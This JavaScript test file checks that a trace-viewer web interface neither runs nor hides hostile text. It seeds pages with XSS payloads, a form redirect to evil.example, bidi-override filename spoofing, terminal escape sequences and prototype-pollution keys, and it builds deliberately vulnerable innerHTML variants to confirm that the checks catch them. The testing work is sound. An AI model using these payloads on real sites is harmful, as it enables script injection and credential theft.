// A workspace full of text that means harm: markup, scripts, terminal escapes, characters that turn
// the order of others around. Nothing of it may run or be hidden. The same judgement must object to
// two broken copies of the page.

import { readFile, writeFile } from 'node:fs/promises';
import { dirname, join } from 'node:path';
import { fileURLToPath } from 'node:url';
import { holds, so } from './viewer_judge.mjs';
import { emptyWorkspace, runTask } from './workspace.mjs';

const CASES = join(dirname(fileURLToPath(import.meta.url)), '../cases/hostile-json.jsonl');

const CLASSICS = [
  '<script>window.__canary=1</script>',
  '<img src=x onerror="window.__canary=2">',
  '"><svg onload=window.__canary=3>',
  '\'"><iframe srcdoc="<script>parent.__canary=4</script>"></iframe>',
  '<details open ontoggle=window.__canary=5>x</details>',
  '<a href="javascript:window.__canary=6" id=clobber>click</a>',
  '<style>*{display:none}</style><link rel=stylesheet href=https://evil.example/x.css>',
  '</textarea></title><base href=https://evil.example/><form action=https://evil.example/><input name=token>',
  '<math><mtext><table><mglyph><style><img src=x onerror=window.__canary=7>',
  '${window.__canary=8}{{constructor.constructor("window.__canary=9")()}}',
  'javascript:window.__canary=10',
  '\u202egnp.exe\u202c \u2066hidden\u2069 zero\u200bwidth\u200d \ufeffmark \u2028line',
  'left\u200e right\u200f soft\u00adhyphen \u061c \u180e',
  '\u001b[31mred\u001b[0m \u001b]8;;https://evil.example\u0007link\u001b]8;;\u0007 \u009b2J bell\u0007 back\b\b\b',
  'tags \u{e0041}\u{e0042} \u{1d173} variation\ufe0e \u2800 \u3164 \uffa0',
  '<template><script>window.__canary=11</script></template><object data="javascript:window.__canary=12"></object>',
  '<a href="data:text/html,<script>opener.__canary=13</script>" target=_blank>x</a><img src=//evil.example/x.png>',
  '<meta http-equiv=refresh content="0;url=https://evil.example/"><marquee onstart=window.__canary=14>',
  '\u001bP+q544e\u001b\\ \u001b_Ga=T;\u001b\\ \u001b]0;title\u0007 \u001b]52;c;ZXZpbA==\u0007 \u001b[2J\u001b[H\u001b[?1049h',
  'a\u0301\u0301\u0301\u0301\u0301\u0301\u0301\u0301\u0301\u0301\u0301\u0301 \u2067right\u2068first\u2069 admin\u202etxt.\u202dexe \u{e0001}',
  '__proto__', 'constructor', '%s%n%x {{7*7}} #{7*7} <%= 7*7 %>',
];

/** Every payload as one text that a member can hold. */
async function payloads() {
  const lines = (await readFile(CASES,
    'utf8')).split('\n').filter((line) => line !== '').map((line) => JSON.parse(line));
  const render = lines.filter((one) => one.layer === 'render')
    .map((one) => JSON.parse(Buffer.from(one.bytes_b64, 'base64').toString('utf8'))[0]);
  if (render.length < 5) throw new Error('the cases of the layer `render` are not there');
  return [...CLASSICS, ...render];
}

const toml = (text) => JSON.stringify(text).replace(/[\u007f-\uffff]/g,
  (char) => `\\u${char.charCodeAt(0).toString(16).padStart(4, '0')}`);
// A pair of surrogates is one escape in TOML, which takes no halves.
const quoted = (text) => toml(text).replace(/\\u(d[89ab][0-9a-f]{2})\\u(d[c-f][0-9a-f]{2})/g, (_, high, low) => {
  const point = (parseInt(high, 16) - 0xd800) * 0x400 + parseInt(low, 16) - 0xdc00 + 0x10000;
  return `\\U${point.toString(16).padStart(8, '0')}`;
});

/** Puts the payloads wherever an agent or a person can put text. */
async function poisoned(bench) {
  const workspace = await emptyWorkspace(bench.workspace.binary, join(dirname(bench.workspace.dir), 'hostile'));
  const texts = await payloads();
  const together = texts.join(' | ');
  const names = { sessions: [], traces: {}, items: [] };
  await workspace.write('evil.txt', texts.join('\n'));
  await workspace.write('evil.svg',
    '<svg xmlns="http://www.w3.org/2000/svg" onload="window.__canary=20"><script>window.__canary=21</script></svg>');
  await workspace.write('evil.html', `<!doctype html><script>window.__canary=22</script>${together}`);
  await workspace.write('evil.json', JSON.stringify(Object.fromEntries(texts.map((text) => [text, text]))));
  for (const [at, text] of texts.entries()) {
    if (at % 5 === 0) names.sessions.push(await runTask(workspace, `evil-${at}`, evilTask(at, text, texts)));
  }
  await recording(workspace, names, texts, together);
  await board(workspace, names, texts);
  await flow(workspace, names, texts);
  return { workspace, names };
}

const evilTask = (at, text, texts) => `task_id = "evil-${at}"
objective = ${quoted(text)}
constraints = [${texts.slice(at, at + 5).map(quoted).join(', ')}]
tags = [${quoted(text)}]
input_artifacts = ["evil.txt", "evil.svg", "evil.html", "evil.json"]

[[steps]]
id = "print"
objective = ${quoted(texts[(at + 1) % texts.length])}
expected_evidence = [${quoted(texts[(at + 2) % texts.length])}]

[[steps.actions]]
tool = "exec"
argv = ["cat", "evil.txt", "evil.svg"]
justification = ${quoted(texts[(at + 3) % texts.length])}

[[steps.claims]]
text = ${quoted(texts[(at + 4) % texts.length])}
evidence = ["stdout"]
`;

async function recording(workspace, { traces }, texts, together) {
  const client = '<b onclick=x>agent';
  const say = (event, more) => workspace.hook({ event, client, session: '<i>s1', ...more });
  traces.recording = (await say('start', { name: texts[1] })).trace_id;
  for (const [at, text] of texts.entries()) {
    const action = { type: 'tool_call', tool: text.slice(0, 100), description: text,
      arguments: { [text]: text, text: together } };
    await say('before', { call: `c${at}`, action });
    await say('after', { call: `c${at}`, action, result: { success: at % 2 === 0, output: together, error: text } });
  }
  const asked = { type: 'file_delete', tool: 'delete',
    files: texts.map((text) => text.replaceAll('/', '∕').slice(0, 200)), description: together };
  await say('before', { call: 'ask', action: asked });
  const added = texts.map((text) => `+${text.replaceAll('\n', ' ')}\n`);
  const diff = `--- a/x\n+++ b/x\n@@ -1,1 +1,${texts.length} @@\n-x\n${added.join('')}`;
  await say('before', { call: 'diff', action: { type: 'code_edit', tool: 'edit', files: ['y'], diff } });
}

async function board(workspace, { items }, texts) {
  for (const text of texts.slice(0, 12)) {
    const opened = await workspace.json(['work', 'open', text]).catch(() => null);
    if (opened) items.push(opened.item);
  }
  so(items.length > 3, 'no work item takes such a title');
  await workspace.run(['work', 'claim', items[0], '--as', texts[1]], { codes: [0, 1, 2, 3] });
  const signal = { protocol: 'apm2_agent_exit', version: '1.0.0', phase_completed: 'DRAFT', exit_reason: 'blocked',
    notes: texts.slice(0, 12).join(' ') };
  const { epoch, session_id: session } = await workspace.json(['work', 'claim', items[1], '--as', 'x']);
  await workspace.run(['work', 'exit', items[1], '--lease', String(epoch), '--session', session],
    { input: JSON.stringify(signal), codes: [0, 1, 3] });
  const bundle = 'evidence/<img src=x onerror=window.__canary=31>.yaml';
  await workspace.write(bundle, texts.join('\n'));
  const lease = await workspace.json(['work', 'claim', items[2], '--as', 'y']);
  const done = { ...signal, exit_reason: 'completed', evidence_bundle_ref: bundle,
    pr_url: 'https://evil.example/"><script>window.__canary=30</script>' };
  await workspace.run(['work', 'exit', items[2], '--lease', String(lease.epoch), '--session', lease.session_id],
    { input: JSON.stringify(done), codes: [0, 1, 3] });
  for (const text of texts) {
    await workspace.run(['work', 'open', text, '--label', text.slice(0, 40)], { codes: [0, 1, 2, 3] });
  }
  await workspace.run(['work', 'unblock', items[1], '--reason', texts.slice(0, 12).join(' ')]);
}

async function flow(workspace, { traces }, texts) {
  await workspace.write('flows/evil.toml', `workflow = ${quoted(texts[1])}
feature_id = "evil"

[agents.join]
kind = "built-in"

[[steps]]
id = "gather"
agent = "join"
action = ${quoted(texts[2].slice(0, 200))}

[[steps]]
id = "ask"
needs = ["gather"]

[steps.approval]
question = ${quoted(texts.join('\n'))}
answers = [${texts.map(quoted).join(', ')}]
deadline_seconds = 86400
`);
  traces.flow = (await workspace.untilItAsks(['flow', 'run', 'flows/evil.toml'])).trace;
}

// Characters that must never stand in the document as they are.
const RAW = ['[\\u0000-\\u0008\\u000b-\\u001f\\u007f-\\u009f\\u00ad\\u061c\\u180e\\u200b-\\u200f',
  '\\u2028-\\u202e\\u2060-\\u206f\\ufeff\\u{e0000}-\\u{e0fff}]'].join('');
const MADE = ['script', 'iframe', 'object', 'embed', 'base', 'style', 'svg', 'math', 'form[action]', '[onerror]',
  '[onload]', '[onclick]', '[ontoggle]'].map((one) => `main ${one}, dialog ${one}`).join(', ');

/** What a page does with such text, as objections. */
async function objections(page) {
  const found = await page.eval(`(() => {
    const raw = new RegExp(${JSON.stringify(RAW)}, 'u');
    const wrong = [];
    if (window.__canary !== undefined) wrong.push('a script ran: ' + window.__canary);
    for (const element of document.querySelectorAll(${JSON.stringify(MADE)})) {
      wrong.push('made from text: ' + element.outerHTML.slice(0, 80));
    }
    for (const anchor of document.querySelectorAll('a[href]')) {
      const href = anchor.getAttribute('href');
      if (!href.startsWith('#')) wrong.push('a link leads away: ' + href.slice(0, 80));
    }
    for (const { src } of document.querySelectorAll('main img')) {
      if (!src.startsWith('blob:')) wrong.push('a picture from elsewhere: ' + src);
    }
    const walker = document.createTreeWalker(document.documentElement, NodeFilter.SHOW_TEXT);
    for (let node = walker.nextNode(); node; node = walker.nextNode()) {
      const char = raw.exec(node.data)?.[0];
      const { tagName, className } = node.parentElement;
      if (char && !node.parentElement.closest('.odd')) {
        wrong.push('unseen U+' + char.codePointAt(0).toString(16) + ' in ' + tagName + '.' + className);
      }
    }
    for (const element of document.querySelectorAll('[title], [aria-label], [alt], [placeholder], option')) {
      for (const name of ['title', 'aria-label', 'alt', 'placeholder']) {
        const value = element.getAttribute(name) ?? '';
        if (raw.test(value)) wrong.push('unseen character in ' + name + ' of ' + element.tagName);
      }
    }
    if (raw.test(document.title)) wrong.push('unseen character in the title of the tab');
    return wrong;
  })()`);
  return [...found, ...page.errors.map((text) => `console: ${text}`),
    ...page.violations.map((text) => `policy: ${text}`)];
}

const settled = 'document.querySelector(".vlist[aria-busy], main [aria-busy=true]") === null';
const whole = `document.querySelector('main h1') && document.querySelector('main .loading') === null && ${settled}`;

const arrived = `/canary|evil\\.example|<b onclick|alert\\(1\\)/.test(document.querySelector('main').innerText)
  || document.querySelectorAll('main .odd').length > 0`;
// Nothing of an agent stands in what the gate, the critic and the sandbox say by themselves.
const HARMLESS = /^(the log|the report of .*|the claims of a recording|event [45] of a session|event 2 of a recording)$/;

export async function run(bench) {
  const { workspace, names } = await poisoned(bench);
  const server = await bench.other(workspace);
  const places = await allPlaces(workspace, names);
  for (const [name, place] of places) {
    await bench.check(`hostile: nothing runs and nothing is hidden on ${name}`,
      () => bench.visit(server, place, async (page) => {
      await page.wait(settled, { what: 'the page to be whole' });
      if (name === 'the questions') await openDialog(page);
      const found = await objections(page);
      so(found.length === 0, found.slice(0, 6).join(' | '));
      // A page on which no such text arrives would prove nothing.
      so(HARMLESS.test(name) || await page.eval(arrived), 'none of the texts is on the page');
    }, { height: 4000 }));
  }
  await bench.check('hostile: what cannot be seen is named',
    () => bench.visit(server, `/artifacts/${names.text}?media=text/plain&trace=${names.sessions[0]}`, async (page) => {
    await page.wait('document.querySelectorAll(".odd").length > 5', { what: 'characters that are named' });
    holds(await page.eval('document.querySelector("main").innerText'), 'U+202E');
    holds(await page.eval('document.querySelector("main").innerText'), '<script>window.__canary=1</script>');
  }));
  await sealedFile(bench, server, workspace, names);
  await strange(bench);
  await twins(bench, server, places);
}

async function allPlaces(workspace, names) {
  const [first] = await workspace.events(names.sessions[0]);
  const hashes = first.artifacts.map((one) => one.artifact_hash);
  const contents = await Promise.all(hashes.map((hash) => readFile(workspace.artifact(hash), 'utf8').catch(() => '')));
  const find = (start) => hashes[contents.findIndex((content) => content.startsWith(start))];
  names.text = find('<script>');
  const artifact = (hash, media) => `/artifacts/${hash}?media=${encodeURIComponent(media)}&trace=${names.sessions[0]}`;
  const recorded = names.traces.recording;
  const places = [['the list of traces', '/traces'], ['the work board', '/work'], ['the list of flows', '/flows'],
    ['the questions', '/questions'],
    ['the log', '/log'], ['a flow', `/flows/${names.traces.flow}?step=ask`],
      ['the trace of a flow', `/traces/${names.traces.flow}`],
    ['the decisions about a flow', `/traces/${names.traces.flow}?view=decisions`],
    ['the decisions about a blocked item', `/traces/${names.items[1]}?view=decisions`],
    ['an item with evidence', `/work/${names.items[2]}`],
    ['a blocked item', `/work/${names.items[1]}`], ['a held item', `/work/${names.items[0]}`],
    ['a text artifact', artifact(names.text, 'text/plain')],
      ['an SVG artifact', artifact(find('<svg'), 'image/svg+xml')],
    ['an HTML artifact', artifact(find('<!doctype'), 'text/html')],
      ['a JSON artifact', artifact(find('{'), 'application/json')]];
  names.sessions.forEach((id, at) => places.push([`session ${at}`, `/traces/${id}`]));
  for (const view of ['states', 'claims', 'decisions', 'executions', 'report']) {
    places.push([`the ${view} of a session`, `/traces/${names.sessions[1]}?view=${view}`],
      [`the ${view} of a recording`, `/traces/${recorded}?view=${view}`]);
  }
  places.push(['a recording', `/traces/${recorded}`]);
  for (const index of [0, 1, 2, 4, 5]) {
    places.push([`event ${index} of a session`, `/traces/${names.sessions[0]}/events/${index}`],
      [`event ${index} of a recording`, `/traces/${recorded}/events/${index}`]);
  }
  return places;
}

async function openDialog(page) {
  await page.click('.question button.yes');
  await page.wait('document.querySelector("dialog.confirm[open]")');
  so((await objections(page)).length === 0, 'the second step shows an action as more than text');
  await page.press('Escape');
  await page.click('.question fieldset label:nth-of-type(12) input');
  await page.click('.question:has(fieldset) button.primary');
  await page.wait('document.querySelector("dialog.confirm[open]")');
}

async function sealedFile(bench, server, workspace, names) {
  const file = join(workspace.dir, 'evil.cap');
  await workspace.run(['seal', names.sessions[2], '-o', file]);
  await bench.check('hostile: nothing runs and nothing is hidden in a file that is opened',
    () => bench.visit(server, '/open', async (page) => {
    await page.drop(file);
    await page.wait(`/pass|fail/.test(document.querySelector('.verdict')?.innerText ?? '')`,
      { ms: 30_000, what: 'its verdict' });
    for (const place of ['#/file', '#/file?view=executions', '#/file/events/0', '#/file/events/3']) {
      await page.eval(`location.hash = ${JSON.stringify(place)}`);
      await page.wait(whole);
      const found = await objections(page);
      so(found.length === 0, `${place}: ${found.slice(0, 6).join(' | ')}`);
    }
  }));
}

// Values that no event of ours has: what becomes text only with its own consent, and names that every object has.
const STRANGE = [{ toString: 1, valueOf: null }, 'constructor', '__proto__', [['toString']], 1e300, true, null, {}, -1,
  { seq: 'hasOwnProperty', event_id: {} }, '', [null, { text: { toString: {} } }]];
// Words of an engine that stumbled, and of an object that was taken for a text.
const STUMBLED = /Cannot (convert|read|set)|is not (a function|iterable|an object)|could not be shown|\[object |native code/;

/** The line of an event with strange values in place of what it says. Which, is told by its place and `turn`. */
function estranged(line, at, turn) {
  const event = JSON.parse(line);
  const value = (place) => STRANGE[(at * 5 + place * 7 + turn) % STRANGE.length];
  const members = Object.keys(event.payload ?? {});
  // What begins a trace says of which kind it is: without that it would be shown as another.
  for (const [place, name] of members.entries()) if (name !== 'kind') event.payload[name] = value(place);
  if (at % 3 === 1) event.actor.agent_id = value(3);
  if (at % 4 === 3) event.actor.role = value(4);
  if (at % 5 === 2) event.artifacts = [value(1), { artifact_hash: value(2), media_type: value(3), byte_size: value(4) }];
  return JSON.stringify(event);
}

/** Events whose members are of other types than they should be must stop no page. */
async function strange(bench) {
  const { traces, items } = bench.names;
  const looked = [traces.tests, traces.doubted, traces.recording, traces.review, items.unblocked];
  const { server } = await bench.copy(async (copied) => {
    for (const [turn, id] of looked.entries()) {
      const lines = (await readFile(copied.ledger(id), 'utf8')).trimEnd().split('\n');
      await writeFile(copied.ledger(id), `${lines.map((line, at) => estranged(line, at, turn)).join('\n')}\n`);
    }
  });
  const places = looked.flatMap((id) => ['', '?view=states', '?view=claims', '?view=decisions', '?view=executions',
    '?view=report', ...[1, 4].map((at) => `/events/${at}`)].map((view) => `/traces/${id}${view}`));
  places.push('/traces', '/work', '/questions', `/work/${items.unblocked}`);
  for (const place of places) {
    const name = place.replace(/[0-9a-z]{26}/, (id) => `trace ${looked.indexOf(id)}`);
    await bench.check(`hostile: members of strange types do not stop ${name}`,
      () => bench.visit(server, place, async (page) => {
      await page.wait(settled, { what: 'the page to be whole' });
      const said = await page.eval('document.querySelector("main").innerText');
      so(!STUMBLED.test(said), `it stumbled: ${STUMBLED.exec(said)?.[0]} in ${said.slice(0, 600)}`);
    }, { allowed: [/404|409/] }));
  }
}

// `shown` that lets markup through, and one that lets unseen characters through.
const MARKUP = (text) => broken(text, `const bdi = document.createElement('bdi');
  bdi.innerHTML = String(text ?? '');
  return [bdi];`);
const UNSEEN = (text) => broken(text, 'return [document.createTextNode(String(text ?? \'\'))];');

function broken(text, body) {
  const begin = /export function shown\([^)]*\) \{/;
  if (!begin.test(text)) throw new Error('`shown` is not where it was thought to be');
  return text.replace(begin,
    (head) => `export function shown(text) {\n${body}\n}\n${head.replace('export function shown', 'function well')}`);
}

async function twins(bench, server, places) {
  const pattern = '*/viewer/dom.mjs';
  const page = { pattern: `${server.origin}/`, withoutHeaders: ['content-security-policy'] };
  const caught = async (overrides, wanted) => {
    const all = [];
    for (const [, place] of places.filter(([name]) => ['the list of traces', 'the work board',
      'the questions'].includes(name))) {
      const look = async (one) => {
        await one.wait(settled, { ms: 5000, what: 'the page' }).catch(() => {});
        // A picture that cannot be loaded says so a moment later.
        await one.wait('window.__canary !== undefined', { ms: 1500 }).catch(() => {});
        all.push(...await objections(one));
      };
      await bench.visit(server, place, look, { overrides,
        objections: false }).catch((error) => all.push(error.message));
    }
    so(all.some((text) => wanted.test(text)), `the broken page was not caught; found: ${all.slice(0, 5).join(' | ')}`);
  };
  await bench.check('twin: a page that takes text for markup is caught by its script, where no policy stops it',
    () => caught([{ pattern, change: MARKUP }, page], /a script ran/));
  await bench.check('twin: a page that takes text for markup is caught by the policy',
    () => caught([{ pattern, change: MARKUP }], /policy|TrustedHTML/));
  await bench.check('twin: a page that shows unseen characters as they are is caught',
    () => caught([{ pattern, change: UNSEEN }], /unseen/));
}
